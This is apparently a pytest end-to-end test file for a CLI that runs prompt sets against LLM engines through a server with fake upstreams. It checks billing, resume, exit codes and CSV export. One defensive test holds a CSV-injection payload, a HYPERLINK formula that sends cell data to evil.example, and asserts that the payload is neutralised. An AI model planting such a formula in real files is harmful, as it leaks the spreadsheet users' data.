"""``llm-responses run``: a prompt set against a real server process, through its public API only."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import time

import httpx
import pytest

from llm_responses.billing.money import to_nanos
from tests.e2e.test_official_client import Server
from tests.fakes.openai_replies import Reply

pytestmark = pytest.mark.e2e
CLI = [sys.executable, "-m", "llm_responses.cli"]


@pytest.fixture
def served(tmp_path, fake_openai, fake_perplexity, fake_anthropic):
    srv = Server(
        tmp_path / "run.db",
        fake_openai.base_url,
        LLM_RESPONSES_WORKER_POLL_SECONDS="0.1",
        PERPLEXITY_API_KEY="pplx-test",
        PERPLEXITY_BASE_URL=fake_perplexity.base_url,
        ANTHROPIC_API_KEY="sk-ant-test",
        ANTHROPIC_BASE_URL=fake_anthropic.base_url,
    )
    creds = json.loads(srv.cli("accounts", "create", "runner", "--balance", "5", "--json"))
    srv.start()
    yield srv, creds
    srv.kill()


def run(srv, creds, *args, env=None):
    return subprocess.run(
        CLI + ["run", *args, "--url", srv.url, "--json"],
        env={
            **srv.env,
            "LLM_RESPONSES_LOGIN": creds["login"],
            "LLM_RESPONSES_PASSWORD": creds["password"],
            **(env or {}),
        },
        capture_output=True,
        text=True,
        timeout=120,
    )


def balance(srv, creds) -> int:
    """The account's balance in nano-dollars, as the server's ledger has it (``/v3/appendix/user_data``)."""
    body = httpx.get(
        f"{srv.url}/v3/appendix/user_data", auth=(creds["login"], creds["password"]), timeout=10
    ).json()
    return to_nanos(str(body["tasks"][0]["result"][0]["money"]["balance"]))


def ready_ids(srv, creds, se: str) -> set[str]:
    body = httpx.get(f"{srv.url}/v3/ai_optimization/{se}/llm_responses/tasks_ready",
                     auth=(creds["login"], creds["password"]), timeout=10).json()  # fmt: skip
    return {r["id"] for t in body["tasks"] for r in t["result"] or []}


def post_elsewhere(srv, creds) -> str:
    """A chat_gpt task posted by another client of the account, waited for until it is ready."""
    body = httpx.post(f"{srv.url}/v3/ai_optimization/chat_gpt/llm_responses/task_post",
                      json=[{"user_prompt": "not the run's", "model_name": "gpt-4.1-mini"}],
                      auth=(creds["login"], creds["password"]), timeout=10).json()  # fmt: skip
    task_id = body["tasks"][0]["id"]
    deadline = time.monotonic() + 30
    while task_id not in ready_ids(srv, creds, "chat_gpt"):
        assert time.monotonic() < deadline, "the task posted elsewhere never finished"
        time.sleep(0.1)
    return task_id


def csv_rows(path):
    with path.open(encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_prompt_set_runs_on_two_engines_and_resumes_without_posting_again(
    served, tmp_path, fake_openai, fake_perplexity
):
    srv, creds = served
    prompts = tmp_path / "prompts.csv"
    prompts.write_text(
        "user_prompt,tag\nbest amusement parks in France,parks\n\nbest amusement parks in France,parks\nParc Astérix opening hours,\n",
        "utf-8",
    )
    out = tmp_path / "out"
    args = [str(prompts), "--engines", "chat_gpt,perplexity", "--models", "chat_gpt=gpt-4.1-mini,perplexity=sonar",
            "--countries", "FR", "--repeat", "2", "--tag", "run1", "--out", str(out)]  # fmt: skip

    dry = run(srv, creds, *args, "--dry-run")
    assert (
        dry.returncode == 0 and json.loads(dry.stdout)["tasks"] == 8
    )  # 2 prompts (a duplicate skipped) x 2 x 2
    assert (
        "duplicate of an earlier line" in dry.stderr and "blank" not in dry.stderr
    )  # a csv blank line is no row
    assert fake_openai.requests == [] and fake_perplexity.requests == []

    before = balance(srv, creds)
    done = run(srv, creds, *args)
    summary = json.loads(done.stdout)
    assert done.returncode == 0, done.stderr
    assert (summary["done"], summary["failed"], summary["task_post"], summary["live"]) == (8, 0, 4, 4)
    rows = csv_rows(out / "results.csv")
    moved = before - balance(srv, creds)  # task_post's charges, settled; live's costs
    assert moved > 0 and to_nanos(str(summary["spent"])) == moved
    assert sum(to_nanos(r["spent"]) for r in rows) == moved
    assert len(rows) == 8 and {r["status_code"] for r in rows} == {"20000"}
    assert {r["tag"] for r in rows} == {"parks", "run1"}
    assert all(r["text"] and r["cited_urls"] for r in rows)
    assert {r["engine"] for r in rows} == {"chat_gpt", "perplexity"}
    sent = [r for r in fake_openai.requests if r.get("tools")]
    assert len(sent) == 4 and all(r["tools"][0]["user_location"]["country"] == "FR" for r in sent)

    calls = len(fake_openai.requests) + len(fake_perplexity.requests)
    again = run(srv, creds, *args, "--resume")
    assert again.returncode == 0 and json.loads(again.stdout)["done"] == 8
    assert len(fake_openai.requests) + len(fake_perplexity.requests) == calls  # nothing posted twice

    refused = run(srv, creds, *args)  # the same --out without --resume
    assert refused.returncode == 2 and "--resume" in refused.stderr

    # the same answers, exported from the server's database: every finished task, oldest first
    exported = subprocess.run(
        CLI + ["export", creds["login"]], env=srv.env, capture_output=True, text=True, check=True
    )
    tasks = [json.loads(line) for line in exported.stdout.splitlines()]
    assert len(tasks) == 8 and "8 tasks exported" in exported.stderr
    assert {t["se"] for t in tasks} == {"chat_gpt", "perplexity"} and all(t["result"]["items"] for t in tasks)
    assert [t["finished_at"] for t in tasks] == sorted(t["finished_at"] for t in tasks)
    target = tmp_path / "parks.csv"
    subprocess.run(
        CLI + ["export", creds["login"], "--tag", "parks", "--engine", "chat_gpt", "--format", "csv", "--out", str(target)],
        env=srv.env, check=True, capture_output=True,
    )  # fmt: skip
    with target.open(encoding="utf-8") as f:
        parks = list(csv.DictReader(f))
    assert len(parks) == 2 and all(
        r["se"] == "chat_gpt" and r["tag"] == "parks" and r["cited_urls"] for r in parks
    )


def test_failures_declines_and_bad_credentials_have_their_exit_codes(served, tmp_path):
    srv, creds = served
    prompts = tmp_path / "p.jsonl"
    prompts.write_text(
        '{"user_prompt": "hello"}\n{"user_prompt": "hello", "temperature": 9}\nnot json\n', "utf-8"
    )
    partial = run(srv, creds, str(prompts), "--models", "gpt-4.1-mini", "--out", str(tmp_path / "a"))
    assert partial.returncode == 3 and "line 3: not JSON" in partial.stderr
    assert json.loads(partial.stdout)["failed"] == 1  # temperature 9: 40501 for that task only

    declined = run(
        srv, creds, str(prompts), "--models", "gpt-4.1-mini", "--repeat", "100", "--out", str(tmp_path / "b")
    )
    assert declined.returncode == 1 and "--confirm-over" in declined.stderr

    wrong = run(
        srv,
        {**creds, "password": "wrong"},
        str(prompts),
        "--models",
        "gpt-4.1-mini",
        "--out",
        str(tmp_path / "c"),
    )
    assert wrong.returncode == 5 and "refused" in wrong.stderr

    unknown = run(
        srv, creds, str(prompts), "--engines", "bing", "--models", "x", "--out", str(tmp_path / "d")
    )
    assert unknown.returncode == 2 and "unknown engine" in unknown.stderr


def test_two_task_post_engines_are_collected_in_one_go_and_spent_is_what_the_ledger_moved(
    served, tmp_path, fake_openai, fake_anthropic
):
    srv, creds = served
    prompts = tmp_path / "p.csv"
    prompts.write_text("user_prompt\nbest amusement parks in France\nParc Astérix opening hours\n", "utf-8")
    args = [str(prompts), "--engines", "chat_gpt,claude", "--models", "chat_gpt=gpt-4.1-mini,claude=claude-haiku-4-5",
            "--countries", "FR"]  # fmt: skip
    foreign = post_elsewhere(srv, creds)  # ready, and not this run's: left for whoever posted it
    before = balance(srv, creds)
    done = run(srv, creds, *args, "--out", str(tmp_path / "one"))
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr  # one go, no --resume
    summary = json.loads(done.stdout)
    assert (summary["done"], summary["failed"], summary["task_post"]) == (4, 0, 4)
    assert len(fake_anthropic.requests) == 2 and len(fake_openai.requests) == 1 + 2
    assert foreign in ready_ids(srv, creds, "chat_gpt")
    moved = before - balance(srv, creds)
    assert moved > 0 and to_nanos(str(summary["spent"])) == moved and summary["held"] == 0
    rows = csv_rows(tmp_path / "one" / "results.csv")
    assert {r["engine"] for r in rows} == {"chat_gpt", "claude"} and {r["status_code"] for r in rows} == {
        "20000"
    }
    assert sum(to_nanos(r["spent"]) for r in rows) == moved

    # upstreams that answer slowly: the run ends before its tasks do; spent is what their charges moved
    before = balance(srv, creds)
    fake_openai.latency = fake_anthropic.latency = 3
    early = run(srv, creds, *args, "--out", str(tmp_path / "two"), "--wait", "0.5")
    assert early.returncode == 4, early.stderr
    summary = json.loads(early.stdout)
    assert summary["done"] == 0 and summary["held"] == summary["spent"] > 0
    assert to_nanos(str(summary["spent"])) == before - balance(srv, creds)
    fake_openai.latency = fake_anthropic.latency = 0
    late = run(srv, creds, *args, "--out", str(tmp_path / "two"), "--resume")
    assert late.returncode == 0, late.stderr
    summary = json.loads(late.stdout)
    assert (summary["done"], summary["held"]) == (4, 0)
    assert to_nanos(str(summary["spent"])) == before - balance(srv, creds) == moved  # the same tasks, settled
    assert len(fake_anthropic.requests) == 4 and len(fake_openai.requests) == 1 + 4  # nothing posted twice


def test_a_misspelt_model_is_refused_before_anything_is_posted(served, tmp_path, fake_openai):
    srv, creds = served
    prompts = tmp_path / "p.csv"
    prompts.write_text("user_prompt\nhello\n", "utf-8")
    before = balance(srv, creds)
    for extra in (["--dry-run"], []):
        bad = run(srv, creds, str(prompts), "--engines", "chat_gpt,perplexity", "--models",
                  "chat_gpt=gpt-4.1-mnii,perplexity=sonar", "--out", str(tmp_path / "out"), *extra)  # fmt: skip
        assert bad.returncode == 2 and "Traceback" not in bad.stderr, bad.stderr
        assert "chat_gpt" in bad.stderr and "gpt-4.1-mnii" in bad.stderr
        assert "gpt-4.1-mini" in bad.stderr.replace("gpt-4.1-mnii", "")  # what is available, listed
        assert "sonar" not in bad.stderr  # perplexity's model is fine
    assert fake_openai.requests == [] and not (tmp_path / "out").exists() and balance(srv, creds) == before

    dated = run(srv, creds, str(prompts), "--models", "gpt-4.1-mini-2025-04-14", "--dry-run")
    assert dated.returncode == 0, dated.stderr


def test_hostile_prompt_files_are_usage_errors_not_tracebacks(served, tmp_path):
    srv, creds = served
    big = tmp_path / "big.csv"
    big.write_text('user_prompt\nhello\n"' + "x" * 200_000 + '"\nbye\n', "utf-8")
    deep = tmp_path / "deep.jsonl"
    deep.write_text('{"user_prompt": "hello"}\n' + "[" * 100_000 + "\n", "utf-8")
    nested = tmp_path / "nested.jsonl"  # parses, but no task field is a list (nor worth re-encoding)
    nested.write_text('{"user_prompt": "hello", "tag": ' + "[" * 900 + "]" * 900 + "}\n", "utf-8")
    for path, line in ((big, "line 3"), (deep, "line 2"), (nested, "line 1")):
        r = run(srv, creds, str(path), "--models", "gpt-4.1-mini", "--dry-run")
        assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr
        assert line in r.stderr and str(path) in r.stderr

    excel = tmp_path / "excel.csv"  # Excel's "CSV UTF-8" starts with a byte order mark
    excel.write_bytes("\ufeffuser_prompt,tag\r\nbest parks,parks\r\n".encode())
    r = run(srv, creds, str(excel), "--models", "gpt-4.1-mini", "--dry-run")
    assert r.returncode == 0 and json.loads(r.stdout)["tasks"] == 1, r.stderr


def test_formula_cells_are_neutralised_in_both_csv_writers(served, tmp_path, fake_openai):
    """OWASP "CSV Injection": a model's answer (or a prompt, a tag) starting with = + - @ is a formula
    in the analyst's spreadsheet unless the cell is prefixed with a single quote."""
    srv, creds = served
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    body = fake_openai.build_response({"model": "gpt-4.1-mini", "input": "x"}, text=hostile, search=False)
    fake_openai.enqueue(Reply(body=body))
    prompts = tmp_path / "p.csv"
    prompts.write_text("user_prompt,tag\n-2+3 is how much?,@analysts\n", "utf-8")
    out = tmp_path / "out"
    done = run(srv, creds, str(prompts), "--models", "gpt-4.1-mini", "--out", str(out))
    assert done.returncode == 0, done.stderr

    target = tmp_path / "export.csv"
    subprocess.run(CLI + ["export", creds["login"], "--format", "csv", "--out", str(target)],
                   env=srv.env, check=True, capture_output=True)  # fmt: skip
    for path in (out / "results.csv", target):
        [row] = csv_rows(path)
        assert row["text"] == "'" + hostile, path
        assert row["user_prompt"] == "'-2+3 is how much?" and row["tag"] == "'@analysts", path
        assert row["status_code"] == "20000" and float(row["money_spent"]) > 0, path  # numbers stay numbers
